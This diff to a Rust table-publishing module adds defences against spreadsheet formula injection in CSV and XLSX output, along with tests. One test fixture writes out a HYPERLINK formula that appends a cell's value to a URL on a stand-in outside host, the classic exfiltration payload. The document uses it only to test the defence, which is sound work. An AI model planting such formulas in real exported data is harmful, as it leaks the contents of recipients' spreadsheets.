@@ -17,6 +17,7 @@ use serde::Serialize;
 use sightline_assess::Assessment;
 use sightline_assess::figure::{Figure, Status};
 use sightline_disclosure::{Rules, Shown};
+use sightline_standard::cells;
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 use tables::Published;
@@ -297,9 +298,7 @@ pub fn write(publication: &Publication, out: &Path) -> Result<Vec<PathBuf>, Publ
         writer
             .write_record([format!("{marking}: {}", table.table.title)])
             .map_err(|e| fail(&path, &e))?;
-        for row in &rows {
-            writer.write_record(row).map_err(|e| fail(&path, &e))?;
-        }
+        write_csv_rows(&mut writer, &rows).map_err(|e| fail(&path, &e))?;
         writer.flush().map_err(|e| fail(&path, &e))?;
         written.push(path);
         let sheet = workbook.add_worksheet();
@@ -321,16 +320,7 @@ pub fn write(publication: &Publication, out: &Path) -> Result<Vec<PathBuf>, Publ
         sheet
             .write_string(0, 0, format!("{marking}: {}", table.table.title))
             .map_err(|e| fail(&xlsx, &e))?;
-        for (r, row) in rows.iter().enumerate() {
-            for (c, cell) in row.iter().enumerate() {
-                let (r, c) = ((r + 1) as u32, c as u16);
-                match cell.parse::<f64>() {
-                    Ok(number) if c > 0 => sheet.write_number(r, c, number),
-                    _ => sheet.write_string(r, c, cell),
-                }
-                .map_err(|e| fail(&xlsx, &e))?;
-            }
-        }
+        write_sheet_rows(sheet, 1, &rows).map_err(|e| fail(&xlsx, &e))?;
     }
     workbook.save(&xlsx).map_err(|e| fail(&xlsx, &e))?;
     written.push(xlsx);
@@ -381,4 +371,107 @@ pub fn table_rows(table: &Published) -> Vec<Vec<String>> {
         rows.push(row);
     }
     rows
+}
+
+/// A table's rows as CSV records. Labels and group names may carry agencies' text: a cell a
+/// spreadsheet would run is neutralised (`sightline_standard::cells`).
+fn write_csv_rows<W: std::io::Write>(
+    writer: &mut csv::Writer<W>,
+    rows: &[Vec<String>],
+) -> csv::Result<()> {
+    for row in rows {
+        let cells: Vec<_> = row.iter().map(|cell| cells::neutralise(cell)).collect();
+        writer.write_record(cells.iter().map(|cell| cell.as_bytes()))?;
+    }
+    Ok(())
+}
+
+/// A table's rows into a sheet from row `first`: counts as numbers (after the label column);
+/// text a spreadsheet would run if it were edited gets the quote prefix, which keeps the value
+/// itself unchanged.
+fn write_sheet_rows(
+    sheet: &mut rust_xlsxwriter::Worksheet,
+    first: u32,
+    rows: &[Vec<String>],
+) -> Result<(), rust_xlsxwriter::XlsxError> {
+    let quoted = rust_xlsxwriter::Format::new().set_quote_prefix();
+    for (r, row) in rows.iter().enumerate() {
+        for (c, cell) in row.iter().enumerate() {
+            let (r, c) = (first + r as u32, c as u16);
+            match cell.parse::<f64>() {
+                Ok(number) if c > 0 => sheet.write_number(r, c, number),
+                _ if cells::needs_neutralising(cell) => {
+                    sheet.write_string_with_format(r, c, cell, &quoted)
+                }
+                _ => sheet.write_string(r, c, cell),
+            }?;
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod formula_tests {
+    use super::*;
+
+    const FORMULA: &str = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")";
+
+    fn rows() -> Vec<Vec<String>> {
+        vec![
+            vec![FORMULA.to_string(), "12".to_string()],
+            vec!["@group".to_string(), "-3".to_string()],
+            vec!["-".to_string(), "[c]".to_string()],
+        ]
+    }
+
+    #[test]
+    fn published_csv_neutralises_formulas_and_reads_back() {
+        let mut writer = csv::Writer::from_writer(Vec::new());
+        write_csv_rows(&mut writer, &rows()).expect("write");
+        let bytes = writer.into_inner().expect("bytes");
+        let text = String::from_utf8(bytes.clone()).expect("utf-8");
+        assert!(text.contains("'=HYPERLINK"), "{text}");
+        assert!(text.contains("'@group,-3"), "{text}");
+        assert!(text.contains("'-,[c]"), "{text}");
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(&bytes[..]);
+        let read: Vec<Vec<String>> = reader
+            .records()
+            .map(|r| {
+                r.expect("a record")
+                    .iter()
+                    .map(|cell| cells::restore(cell).to_string())
+                    .collect()
+            })
+            .collect();
+        assert_eq!(read, rows());
+    }
+
+    #[test]
+    fn published_workbook_quote_prefixes_formulas_and_keeps_values() {
+        use calamine::Reader as _;
+        let dir = tempfile::tempdir().expect("a temp dir");
+        let path = dir.path().join("tables.xlsx");
+        let mut workbook = rust_xlsxwriter::Workbook::new();
+        write_sheet_rows(workbook.add_worksheet(), 0, &rows()).expect("write");
+        workbook.save(&path).expect("save");
+        let mut book: calamine::Xlsx<_> = calamine::open_workbook(&path).expect("open");
+        let range = book.worksheet_range_at(0).expect("a sheet").expect("read");
+        assert_eq!(
+            range.get_value((0, 0)),
+            Some(&calamine::Data::String(FORMULA.to_string()))
+        );
+        assert_eq!(range.get_value((1, 1)), Some(&calamine::Data::Float(-3.0)));
+        // The cells that need it carry the quote prefix in their style.
+        let mut styles = String::new();
+        let file = std::fs::File::open(&path).expect("open");
+        let mut archive = zip::ZipArchive::new(file).expect("a zip");
+        std::io::Read::read_to_string(
+            &mut archive.by_name("xl/styles.xml").expect("styles"),
+            &mut styles,
+        )
+        .expect("read");
+        assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
+    }
 }
